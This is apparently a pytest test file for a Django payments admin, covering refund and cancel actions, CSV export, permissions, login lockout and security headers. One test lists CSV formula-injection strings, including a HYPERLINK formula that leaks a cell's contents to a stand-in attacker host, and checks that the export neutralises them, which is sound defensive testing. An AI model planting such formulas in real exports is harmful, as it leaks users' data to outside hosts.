"""The operators' admin: pages, actions through services, CSV export, dashboard, login,
and what operators with partial permissions may (not) do."""

import csv
import io
import logging
import re
from datetime import timedelta

import pytest
from django.contrib.admin.models import LogEntry
from django.contrib.admin.sites import site
from django.core.exceptions import PermissionDenied
from django.core.management import call_command
from django.test import RequestFactory
from django.utils import timezone

from payments.models import Payment
from refunds.models import Refund
from tests.support.bodies import PAYMENT_BODY
from tests.support.factories import make_payment
from tests.support.staff import VIEW_ONLY, staff_user

CHANGELIST = "/admin/payments/payment/"
EXPORT = f"{CHANGELIST}export/"


@pytest.fixture
def staff(client, django_user_model, demo):
    user = django_user_model.objects.create_superuser("ops", "ops@example.com", "pw-ops-123")
    client.force_login(user)
    client.user = user
    return client


@pytest.fixture
def operator(client, django_user_model, demo):
    """Log in a staff user holding the view permissions plus the ones named."""

    def log_in(*perms):
        client.user = staff_user(django_user_model, "operator", *VIEW_ONLY, *perms)
        client.force_login(client.user)
        return client

    return log_in


def action(client, name, payments, **extra):
    return client.post(CHANGELIST, {"action": name,
                                    "_selected_action": [p.pk for p in payments], **extra},
                       follow=True)


def offered_actions(client, url=CHANGELIST) -> set[str]:
    response = client.get(url)
    assert response.status_code == 200
    form = response.context["action_form"]
    return {name for name, _ in form.fields["action"].choices if name} if form else set()


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_list_shows_amount_status_method_customer(staff, create_payment):
    create_payment(amount=1500, currency="JPY")
    create_payment(amount=13.00)
    html = staff.get(CHANGELIST).content.decode()
    assert "1,500 JPY" in html and "13.00 USD" in html
    assert 'class="status-badge"' in html and "failed" in html
    assert "customer@example.com" in html


@pytest.mark.parametrize(("query", "expected"), [
    ("status__exact=failed", 1), ("currency__exact=JPY", 1), ("payment_method__exact=crypto", 1),
    ("q=Order+%2312345", 3), ("q=WIDGET-PRO-001", 3), ("q=idem-key-777", 1),
])
def test_filters_and_search(staff, create_payment, api, query, expected):
    create_payment(amount=13.00)
    create_payment(currency="JPY", amount=1500, payment_method="crypto")
    api.post("/v1/payments", PAYMENT_BODY, format="json",
             headers={"Idempotency-Key": "idem-key-777"})
    response = staff.get(f"{CHANGELIST}?{query}")
    assert response.status_code == 200
    assert response.context["cl"].result_count == expected


def test_search_finds_metadata_values(staff, create_payment):
    create_payment(metadata={"order_id": "ZX-4242"})
    create_payment()
    assert staff.get(f"{CHANGELIST}?q=ZX-4242").context["cl"].result_count == 1


def test_detail_is_read_only_with_refunds_events_and_idempotency_link(staff, api):
    payment_id = api.post("/v1/payments", PAYMENT_BODY, format="json",
                          headers={"Idempotency-Key": "detail-key-1"}).json()["id"]
    api.post(f"/v1/payments/{payment_id}/refund", {"amount": 10}, format="json")
    payment = Payment.objects.get(public_id=payment_id)
    html = staff.get(f"{CHANGELIST}{payment.pk}/change/").content.decode()
    assert "49.99 USD" in html and "10.00 USD" in html
    assert Refund.objects.get().public_id in html
    for event in ("payment.created", "payment.completed", "refund.created", "payment.refunded"):
        assert event in html
    assert "/admin/api/idempotencykey/" in html
    assert 'name="amount"' not in html and "Save" not in html  # nothing editable


def test_refund_action_partial_and_full(staff, completed_payment):
    response = action(staff, "refund", [completed_payment])
    assert b'name="amount"' in response.content  # the form first
    action(staff, "refund", [completed_payment], apply="1", amount="25.00",
           reason="requested_by_customer")
    completed_payment.refresh_from_db()
    assert (completed_payment.refunded_minor, completed_payment.status) == (
        2500, "partially_refunded")
    action(staff, "refund", [completed_payment], apply="1", amount="")
    completed_payment.refresh_from_db()
    assert completed_payment.status == "refunded"
    assert sum(Refund.objects.values_list("amount_minor", flat=True)) == 10000
    entries = LogEntry.objects.filter(object_id=str(completed_payment.pk))
    assert entries.count() == 2 and {e.user.username for e in entries} == {"ops"}


def test_refund_action_keeps_the_apis_rules_and_messages(staff, create_payment):
    failed = Payment.objects.get(public_id=create_payment(amount=13.00).json()["id"])
    response = action(staff, "refund", [failed], apply="1", amount="")
    messages = [str(m) for m in response.context["messages"]]
    assert f"Not refunded: Payment '{failed.public_id}' cannot be refunded. " \
           "Current status: 'failed'." in messages
    assert not Refund.objects.exists()


def test_refund_over_the_balance_is_refused(staff, completed_payment):
    response = action(staff, "refund", [completed_payment], apply="1", amount="100.01")
    assert any("exceeds the remaining refundable balance" in str(m)
               for m in response.context["messages"])
    assert not Refund.objects.exists()


def test_cancel_action(staff, create_payment):
    pending = Payment.objects.get(
        public_id=create_payment(payment_method="bank_transfer").json()["id"])
    done = Payment.objects.get(public_id=create_payment().json()["id"])
    response = action(staff, "cancel", [pending, done])
    pending.refresh_from_db()
    assert pending.status == "cancelled"
    assert any("cannot be cancelled. Current status: 'completed'" in str(m)
               for m in response.context["messages"])
    # As the page shows it (Django's admin capitalizes each message's first letter): the id
    # keeps its case.
    page = response.content.decode()
    assert f"<li class=\"success\">Payment {pending.public_id} cancelled.</li>" in page


def test_export_csv_of_the_current_filter(staff, create_payment):
    create_payment(amount=13.00)
    create_payment(currency="EUR")
    response = staff.get(f"{CHANGELIST}export/?currency__exact=EUR")
    assert response["Content-Type"] == "text/csv"
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:5] == ["id", "created_at", "status", "amount", "currency"]
    assert len(rows) == 2 and rows[1][3:5] == ["49.99", "EUR"]
    assert "Export CSV" in staff.get(CHANGELIST).content.decode()


def test_nothing_changes_money_or_status_outside_the_actions(staff, completed_payment):
    url = f"{CHANGELIST}{completed_payment.pk}/change/"
    staff.post(url, {"amount": "1", "status": "refunded", "refunded_amount": "10000"})
    completed_payment.refresh_from_db()
    assert (completed_payment.amount_minor, completed_payment.status) == (10000, "completed")
    assert staff.get(f"{CHANGELIST}add/").status_code == 403
    assert staff.post(f"{CHANGELIST}{completed_payment.pk}/delete/").status_code == 403


def test_dashboard_on_the_admin_index(staff, create_payment, completed_payment):
    create_payment(amount=13.00)
    staff.post(CHANGELIST, {"action": "refund", "_selected_action": [completed_payment.pk],
                            "apply": "1", "amount": "50.00"})
    html = staff.get("/admin/").content.decode()
    assert '<svg id="payments-chart"' in html and "<rect" in html
    assert "Refund rate" in html and "50.0%" in html
    assert 'id="failed-deliveries">0<' in html
    assert "https://" not in html.split('id="payments-dashboard"')[1].split("</svg>")[0]


def test_the_dashboard_counts_days_by_each_accounts_clock(staff, demo, create_payment):
    """Days count back from the account's own now, in the header and the chart alike: made
    now on a clock ten days ahead is today's (dated ten days ahead, it would otherwise be
    counted but not drawn), made before the clock moved is ten days old."""
    from accounts.services import clock_advance

    create_payment()
    clock_advance(account=demo, seconds=10 * 86400)
    create_payment()
    create_payment(amount=13.00)  # declined: another status, same day
    html = staff.get("/admin/").content.decode()
    header = int(re.search(r"<strong>(\d+)</strong> payments", html).group(1))
    bars = re.findall(r"<title>(\w{3} \d{2}): (\d+) (\w+)</title>", html)
    today, ten_days_ago = (f"{timezone.now() - timedelta(days=n):%b %d}" for n in (0, 10))
    assert header == sum(int(n) for _day, n, _status in bars) == 3
    assert {(day, int(n), status) for day, n, status in bars} == {
        (ten_days_ago, 1, "completed"), (today, 1, "completed"), (today, 1, "failed")}


@pytest.mark.parametrize("url", [
    "/admin/", CHANGELIST, "/admin/refunds/refund/", "/admin/webhooks_app/webhookendpoint/",
    "/admin/webhooks_app/event/", "/admin/webhooks_app/delivery/", "/admin/accounts/apikey/",
    "/admin/oauth_app/oauthclient/", "/admin/oauth_app/oauthtoken/",
    "/admin/api/idempotencykey/", "/admin/accounts/apikey/add/",
])
def test_every_page_needs_staff_and_loads(client, staff, url):
    assert staff.get(url).status_code == 200
    staff.logout()
    assert staff.get(url).status_code == 302


def test_failed_logins_are_locked_out_per_username_and_ip(client, django_user_model, settings):
    django_user_model.objects.create_superuser("ops", "ops@example.com", "pw-ops-123")
    for _ in range(settings.AXES_FAILURE_LIMIT):
        client.post("/admin/login/", {"username": "ops", "password": "wrong"})
    locked = client.post("/admin/login/", {"username": "ops", "password": "pw-ops-123"})
    assert locked.status_code == 429
    other_ip = client.post("/admin/login/", {"username": "ops", "password": "pw-ops-123"},
                           REMOTE_ADDR="10.1.1.1")
    assert other_ip.status_code == 302  # the same user from elsewhere still gets in


@pytest.mark.django_db(transaction=True)
def test_pages_at_10000_payments(staff, django_assert_max_num_queries, capsys):
    call_command("seed_volume", payments=10_000, stdout=open("/dev/null", "w"))
    assert Payment.objects.count() == 10_000
    with django_assert_max_num_queries(20) as captured:
        assert staff.get(CHANGELIST).status_code == 200
    listing = len(captured)
    with django_assert_max_num_queries(20) as captured:
        assert staff.get(f"{CHANGELIST}?status__exact=refunded&q=Order").status_code == 200
    with django_assert_max_num_queries(20) as captured:
        assert staff.get("/admin/").status_code == 200
    dashboard = len(captured)
    payment = Payment.objects.filter(status="partially_refunded").first()
    with django_assert_max_num_queries(20):
        assert staff.get(f"{CHANGELIST}{payment.pk}/change/").status_code == 200
    with capsys.disabled():
        print(f"\n[admin at 10,000 payments] list: {listing} queries, index+dashboard: "
              f"{dashboard} queries")


# --- operators with partial permissions -------------------------------------------------------
MONEY_ACTIONS = [
    ("refund", {"apply": "1", "amount": ""}),
    ("cancel", {}),
    ("export_selected", {}),
]


def test_view_only_staff_sees_payments_but_cannot_act_or_export(operator, completed_payment):
    viewer = operator()
    assert viewer.get(f"{CHANGELIST}{completed_payment.pk}/change/").status_code == 200
    assert offered_actions(viewer) == set()
    assert "export-csv" not in viewer.get(CHANGELIST).content.decode()
    assert viewer.get(EXPORT).status_code == 403
    for name, extra in MONEY_ACTIONS:
        assert action(viewer, name, [completed_payment], **extra).status_code == 403, name
    completed_payment.refresh_from_db()
    assert (completed_payment.status, completed_payment.refunded_minor) == ("completed", 0)
    assert not Refund.objects.exists() and not LogEntry.objects.exists()


def test_staff_without_any_permission_cannot_export(client, django_user_model, demo,
                                                    completed_payment):
    client.force_login(staff_user(django_user_model, "nobody"))
    assert client.get(EXPORT).status_code == 403
    assert client.get(CHANGELIST).status_code == 403


@pytest.mark.parametrize(("perm", "allowed"), [
    ("refunds.refund_payment", "refund"),
    ("payments.cancel_payment", "cancel"),
    ("payments.export_payment", "export_selected"),
])
def test_each_action_needs_its_own_permission(operator, demo, perm, allowed):
    staff = operator(perm)
    assert offered_actions(staff) == {allowed}
    completed = make_payment(demo, 10000, "USD")
    pending = make_payment(demo, 10000, "USD", payment_method="bank_transfer")
    # Each action is tried on a payment it could act on, so a refusal is the permission's.
    target = {"refund": completed, "cancel": pending, "export_selected": completed}
    for name, extra in MONEY_ACTIONS:
        response = action(staff, name, [target[name]], **extra)
        assert response.status_code == (200 if name == allowed else 403), name
    completed.refresh_from_db()
    pending.refresh_from_db()
    assert (completed.status, pending.status) == {
        "refund": ("refunded", "pending"), "cancel": ("completed", "cancelled"),
        "export_selected": ("completed", "pending"),
    }[allowed]


@pytest.mark.parametrize("name", ["refund", "cancel", "export_selected"])
def test_the_actions_check_their_permission_themselves(django_user_model, completed_payment,
                                                       name):
    """Whoever calls an action (not only the change list's form) meets the permission check."""
    request = RequestFactory().post(CHANGELIST)
    request.user = staff_user(django_user_model, "viewer", *VIEW_ONLY)
    modeladmin = site.get_model_admin(Payment)
    with pytest.raises(PermissionDenied):
        getattr(modeladmin, name)(request, Payment.objects.all())
    completed_payment.refresh_from_db()
    assert completed_payment.status == "completed"


def test_export_is_logged_with_the_user_and_the_row_count(operator, create_payment, caplog):
    create_payment(amount=13.00)
    create_payment(currency="EUR")
    staff = operator("payments.export_payment")
    assert "export-csv" in staff.get(CHANGELIST).content.decode()
    with caplog.at_level(logging.INFO, logger="payments.admin"):
        filtered = csv_rows(staff.get(f"{EXPORT}?currency__exact=EUR"))
        selected = csv_rows(action(staff, "export_selected", Payment.objects.all()))
    assert len(filtered) == 2 and len(selected) == 3
    records = [r.getMessage() for r in caplog.records if r.name == "payments.admin"]
    assert records == [
        f"operator (user id {staff.user.pk}) exported 1 payments as CSV "
        "(the list's filter and search)",
        f"operator (user id {staff.user.pk}) exported 2 payments as CSV (selected rows)",
    ]


@pytest.mark.parametrize("text", [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A9)",
    "\t=1+2", "\r=1+2",
])
def test_export_neutralises_spreadsheet_formulas(staff, demo, text):
    formula = make_payment(demo, 4999, "USD", description=text)
    plain = make_payment(demo, 100, "USD", description="Plain - text")
    header, *rows = csv_rows(staff.get(EXPORT))
    rows = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    assert rows[formula.public_id]["description"] == f"'{text}"
    assert rows[plain.public_id]["description"] == "Plain - text"
    assert rows[formula.public_id]["amount"] == "49.99"  # amounts stay numbers
    assert rows[formula.public_id]["refunded_amount"] == "0.00"


def test_admin_pages_send_a_content_security_policy(staff, client):
    policy = staff.get(CHANGELIST)["Content-Security-Policy"]
    directives = dict(part.strip().split(" ", 1) for part in policy.split(";"))
    assert directives["script-src"] == "'self'"
    assert directives["default-src"] == "'self'" and directives["object-src"] == "'none'"
    assert directives["frame-ancestors"] == "'none'"
    assert "Content-Security-Policy" in client.get("/admin/login/")
    docs = client.get("/api/redoc/")["Content-Security-Policy"]
    assert "worker-src 'self' blob:" in docs  # the docs pages keep their own policy


def test_the_export_url_is_behind_the_admins_login(client, django_user_model, demo):
    """Signed out, or signed in without staff status, the export answers the admin's login
    redirect (its `admin_view` wrapper), before any permission is even asked."""
    export = "/admin/payments/payment/export/"
    response = client.get(export)
    assert response.status_code == 302 and response["Location"].startswith("/admin/login/")
    user = django_user_model.objects.create_user("shopper", password="pw-12345-x")
    client.force_login(user)
    response = client.get(export)
    assert response.status_code == 302 and response["Location"].startswith("/admin/login/")


def test_a_payment_shows_its_charges_and_a_customer_its_saved_cards_and_setups(staff, demo):
    from payments import services

    customer = services.customer_create(account=demo, email="jenny@example.com")
    declined = services.payment_open(account=demo, amount_minor=2000, currency="USD",
                                     payment_method_id="pm_card_chargeDeclined", confirm=True,
                                     customer_id=customer.public_id)
    paid = services.payment_confirm(account=demo, payment_id=declined.public_id,
                                    payment_method_id="pm_card_visa")
    page = staff.get(f"{CHANGELIST}{paid.pk}/change/").content.decode()
    [failed, approved] = paid.charges.order_by("created_at", "id")
    assert failed.public_id in page and approved.public_id in page
    assert "visa …0002" in page and "card_declined" in page and "visa …4242" in page
    setup = services.setup_create(account=demo, customer_id=customer.public_id,
                                  method_id="pm_card_mastercard", confirm=True)
    page = staff.get(f"/admin/payments/customer/{customer.pk}/change/").content.decode()
    assert setup.public_id in page and setup.card.public_id in page
    assert "mastercard …4444" in page and "succeeded" in page
    for listing in ("customer", "card", "setup"):
        assert staff.get(f"/admin/payments/{listing}/").status_code == 200
    # Read-only: made and changed through the API.
    assert staff.get(f"/admin/payments/card/{setup.card.pk}/delete/").status_code == 403
